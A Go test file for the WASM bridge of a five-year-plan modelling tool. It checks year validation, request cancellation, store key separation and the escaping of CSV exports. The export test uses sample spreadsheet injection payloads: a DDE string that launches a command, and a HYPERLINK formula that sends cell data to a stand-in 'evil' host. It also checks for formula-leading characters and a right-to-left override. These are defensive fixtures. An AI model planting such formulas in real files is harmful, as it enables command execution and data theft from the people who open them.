package bridge_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/jimo-plan/fiveyear/plan/jimo"
	"github.com/jimo-plan/fiveyear/plan/scenario"
	"github.com/jimo-plan/fiveyear/wasm/bridge"
	"github.com/jimo-plan/fiveyear/wasm/bridge/internal/wire"
)

func hostile(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile("testdata/hostile/" + name)
	require.NoError(t, err)
	return string(data)
}

// A date or a number of millions in place of a year is refused by every question, at once and with the years there are.
func TestHostileGoalYears(t *testing.T) {
	s := server()
	for line := range strings.Lines(hostile(t, "requests-goal-year.jsonl")) {
		var q struct {
			Method string          `json:"method"`
			Params json.RawMessage `json:"params"`
		}
		require.NoError(t, json.Unmarshal([]byte(line), &q))
		_, fault := ask[json.RawMessage](t, s, q.Method, q.Params)
		require.NotNil(t, fault, q.Method)
		assert.EqualValues(t, "invalid", fault.Code, q.Method)
		assert.Regexp(t, "2020( to |-)2035", fault.Message.EN, q.Method)
		assert.Regexp(t, "2020[—-]2035", fault.Message.ZH, q.Method)
	}
}

// Names that begin like a formula are marked as text in every CSV, whether they come with a plan or with a link.
func TestExportsAreNoFormulas(t *testing.T) {
	s := server()
	made, fault := ask[wire.PlanFile](t, s, "plan.import", wire.ImportParams{TableFile: wire.TableFile{Text: hostile(t, "C14_injection.csv"), File: "c.csv"}, ID: "evil", Base: 2020, From: 2021, To: 2025})
	require.Nil(t, fault)
	v, fault := ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{Text: made.Text, File: "evil.json"})
	require.Nil(t, fault)
	linked := scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version,
		Formulas: []scenario.Change{{Variable: "zz", Formula: "1", Unit: "%", Name: `=HYPERLINK("http://evil/?"&A1,"open")`}}}
	for _, c := range []struct {
		plan string
		sc   scenario.Scenario
		want string
	}{
		{"evil", scenario.Scenario{Format: 1, Plan: "evil", Version: v.Head.Version}, "'=cmd|' /C calc'!A0"},
		{"evil", scenario.Scenario{Format: 1, Plan: "evil", Version: v.Head.Version}, "'＝1+1"},
		{"jimo-14fyp", linked, `'=HYPERLINK("http://evil/?"&A1,"open")`},
	} {
		for _, what := range []wire.ExportKind{"targets", "series"} {
			out, fault := ask[wire.ExportView](t, s, "export", wire.ExportParams{Plan: c.plan, Scenario: c.sc, What: what, Lang: "en"})
			require.Nil(t, fault)
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.Text, "\ufeff"))).ReadAll()
			require.NoError(t, err)
			var cells []string
			for _, row := range rows {
				for _, cell := range row {
					cells = append(cells, cell)
					if strings.IndexAny(cell, "=+@\t\r＝＋－＠") == 0 {
						t.Errorf("%s %s: %q would act", c.plan, what, cell)
					}
				}
			}
			if c.plan == "evil" || what == "series" { // targets list indicators only
				assert.Contains(t, cells, c.want, string(what))
			}
		}
	}
	_, fault = ask[wire.RunView](t, s, "run", wire.RunParams{Plan: "jimo-14fyp", Lang: "en", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version,
		Formulas: []scenario.Change{{Variable: "zz", Formula: "1", Unit: "%", Name: "rtl\u202etxt\x00"}}}})
	require.NotNil(t, fault)
	assert.Contains(t, fault.Message.EN, "the character U+202E is not allowed")
}

// A link of a built-in plan is not taken by a file of the reader's own that has the same id.
func TestOwnFileTakesNoLinks(t *testing.T) {
	s := server()
	code := scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version}.Code()
	read, fault := ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
	require.Nil(t, fault)
	assert.False(t, read.BuiltIn, "it is open itself")

	_, fault = ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{Text: strings.TrimPrefix(hostile(t, "spoof.json"), "\ufeff"), File: "spoof.json"})
	require.Nil(t, fault)
	read, fault = ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
	require.Nil(t, fault)
	assert.True(t, read.BuiltIn)
	own, fault := ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: "1"}.Code()})
	require.Nil(t, fault)
	assert.False(t, own.BuiltIn, "a link made of the own file's version opens there")

	_, fault = ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{ID: "jimo-14fyp"})
	require.Nil(t, fault)
	read, fault = ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
	require.Nil(t, fault)
	assert.False(t, read.BuiltIn)
}

// Every request ends with its context, and a cancel message reaches one that is opening a plan.
func TestRequestsHonourTheirContext(t *testing.T) {
	s := server()
	gone, cancel := context.WithCancel(t.Context())
	cancel()
	for method, params := range map[string]any{
		"plan.open": wire.OpenParams{Text: province, File: "p.json"},
		"run":       wire.RunParams{Plan: "jimo-14fyp", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version}},
		"compare":   wire.CompareParams{Plan: "jimo-14fyp"},
		"export":    wire.ExportParams{Plan: "jimo-14fyp", What: "targets"},
	} {
		p, err := json.Marshal(params)
		require.NoError(t, err)
		q, err := json.Marshal(request{V: bridge.Protocol, ID: 7, Method: method, Params: p})
		require.NoError(t, err)
		var resp response
		require.NoError(t, json.Unmarshal(s.Handle(gone, q), &resp))
		require.NotNil(t, resp.Error, method)
		assert.EqualValues(t, "cancelled", resp.Error.Code, method)
	}

	if runtime.GOOS == "js" {
		return // one thread: while it computes no message arrives, and the page ends the worker instead
	}
	// 100 variables of 500 terms in 200 years: seconds to open, and nothing else is lost meanwhile.
	var list []string
	for i := range 99 {
		list = append(list, `{"id":"v`+strings.Repeat("i", i+1)+`","name":{"en":"V"},"unit":"persons","formula":"`+strings.Repeat("a+", 499)+`a"}`)
	}
	big, err := json.Marshal(wire.OpenParams{File: "big.json", Text: `{"format":1,"id":"big","version":"1","title":{"en":"M"},"period":{"base":2020,"from":2021,"to":2025,"horizon":2219},"source":{"title":{"en":"S"}},` +
		`"categories":[],"indicators":[],"model":{"variables":[{"id":"a","name":{"en":"A"},"unit":"persons"},` + strings.Join(list, ",") + `]}}`})
	require.NoError(t, err)
	q, err := json.Marshal(request{V: bridge.Protocol, ID: 41, Method: "plan.open", Params: big})
	require.NoError(t, err)
	done := make(chan response)
	go func() {
		var resp response
		_ = json.Unmarshal(s.Handle(context.Background(), q), &resp)
		done <- resp
	}()
	for stopped := false; !stopped; {
		select {
		case resp := <-done:
			require.NotNil(t, resp.Error, "answered before it could be given up")
			assert.EqualValues(t, "cancelled", resp.Error.Code)
			stopped = true
		case <-time.After(time.Millisecond):
			_, fault := ask[wire.OK](t, s, "cancel", wire.CancelParams{ID: 41})
			require.Nil(t, fault)
		}
	}
}

// Saved scenarios have keys of their own kind: no request for one reads, writes or deletes another kind of record.
func TestStoreKeysStayApart(t *testing.T) {
	s := server()
	_, fault := ask[wire.KeptPlan](t, s, "plan.keep", wire.KeepParams{File: "sd.json", Text: province, Now: "2026-01-01T00:00:00Z"})
	require.Nil(t, fault)
	kept, fault := ask[wire.KeptPlans](t, s, "plan.kept", wire.LangParams{})
	require.Nil(t, fault)
	require.Len(t, kept.Items, 1)
	for _, key := range []string{"plan:" + kept.Items[0].Key, kept.Items[0].Key, "actuals:jimo-14fyp"} {
		for method, params := range map[string]any{"store.save": wire.SaveParams{ID: key, Name: "x", Plan: "jimo-14fyp"}, "store.load": wire.IDParams{ID: key}, "store.delete": wire.IDParams{ID: key}} {
			_, fault := ask[json.RawMessage](t, s, method, params)
			require.NotNil(t, fault, method+key)
			assert.EqualValues(t, "invalid", fault.Code)
		}
	}
	kept, fault = ask[wire.KeptPlans](t, s, "plan.kept", wire.LangParams{})
	require.Nil(t, fault)
	assert.Len(t, kept.Items, 1)
}
